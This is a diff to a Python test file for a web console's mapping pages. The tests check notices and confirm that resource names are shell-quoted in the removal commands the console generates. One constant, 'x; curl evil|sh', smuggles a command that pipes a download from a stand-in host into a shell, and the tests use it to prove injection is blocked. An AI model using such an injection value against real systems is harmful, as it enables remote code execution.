@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 from html import unescape
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
@@ -14,6 +16,7 @@ from service.operate.audit import trail
 from service.operate.common_resources import list_resources
 from service.operate.hub_requests import send
 from service.operate.mapping_drafts import draft, save
+from service.web.console.mapping_pages import commands_to_remove
 from tests.connector.pieces import OURS, THEIRS
 from tests.web.console.asked import form_on, submit
 
@@ -24,6 +27,8 @@ EDIT, REMOVE = f"{MAPPING}/edit", f"{MAPPING}/remove"
 
 DEFINITION = {"fields": [{"path": "id", "type": "string"}, {"path": "text", "type": "string"}]}
 TEXT = json.dumps({"To": THEIRS, "From": OURS, "Body": "<b>hi</b>"})
+
+EVIL = "x; curl evil|sh"
 
 PAIRS = {"ours.0": "id", "theirs.0": "sid", "ours.1": "text", "theirs.1": "body"}
 
@@ -219,7 +224,60 @@ async def test_what_is_not_there_is_said(connected: Any) -> None:
     assert odd.status_code == 404
 
 
-async def test_a_notice_is_shown_only_where_it_is_true(connected: Any) -> None:
+async def test_a_notice_is_shown_only_where_it_is_true(
+    connected: Any, deployment: Any, sid: str
+) -> None:
     """A link could make the page say what nobody did."""
-    text = (await connected.get(f"{MAPPING}?saved=texts")).text
-    assert "is mapped." not in text
+    await save(deployment, await draft(deployment, "texts", {"text": "body"}, new=True))
+    assert "texts is mapped." in (await connected.get(f"{MAPPING}?saved=texts")).text
+    for said in ("saved=paid", "removed=texts", "removed=paid", "removed=All of it"):
+        text = (await connected.get(f"{MAPPING}?{said}")).text
+        assert "is mapped." not in text, said
+        assert "is not mapped on the instance any more" not in text, said
+    question = (await connected.get(f"{REMOVE}?name=texts")).text
+    await submit(connected, question, REMOVE, {})
+    text = (await connected.get(f"{MAPPING}?removed=texts")).text
+    assert "texts is not mapped on the instance any more." in text
+    # Nor once it is mapped again.
+    await save(deployment, await draft(deployment, "texts", {"text": "body"}))
+    text = (await connected.get(f"{MAPPING}?removed=texts")).text
+    assert "is not mapped on the instance any more" not in text
+
+
+async def test_what_can_not_be_worked_on_by_its_name_is_listed_and_not_offered(
+    connected: Any, platform: Any
+) -> None:
+    """A name that somebody chose would be a line to paste into a shell, or a button that fails."""
+    path = f"/organizations/objects/{quote(EVIL, safe='')}/definitions"
+    await platform("POST", path, DEFINITION)
+    await platform("POST", "/organizations/objects/texts/definitions", DEFINITION)
+    page = (await connected.get(MAPPING)).text
+    assert f"<strong>{EVIL}</strong>" in page
+    assert "Its name can only be worked on in Open Connectors." in page
+    assert f"{REMOVE}?name=texts" in page
+    assert "curl" not in "".join(re.findall('href="([^"]*)"', page))
+    answer = await connected.get(REMOVE, params={"name": EVIL})
+    assert answer.status_code == 404
+    assert "a resource has a name of letters, digits" in answer.text
+    assert "By command" not in answer.text
+
+
+@pytest.mark.parametrize(
+    ("own", "defined", "endings"),
+    [
+        (True, False, [[]]),
+        (True, True, [[], ["--definition"]]),
+        (False, True, [["--definition"]]),
+    ],
+    ids=["mapped", "mapped and defined", "defined"],
+)
+def test_the_commands_that_remove_are_quoted(
+    own: bool, defined: bool, endings: list[list[str]]
+) -> None:
+    """Whoever pastes one would run what somebody else wrote."""
+    for name in (EVIL, "texts"):
+        commands = commands_to_remove(name, own=own, defined=defined)
+        words = ["parley", "connector", "map", "remove", name]
+        assert [shlex.split(each) for each in commands] == [[*words, *each] for each in endings]
+        shell = shlex.shlex(commands[0], posix=True, punctuation_chars=True)
+        assert not {";", "|"} & set(shell)
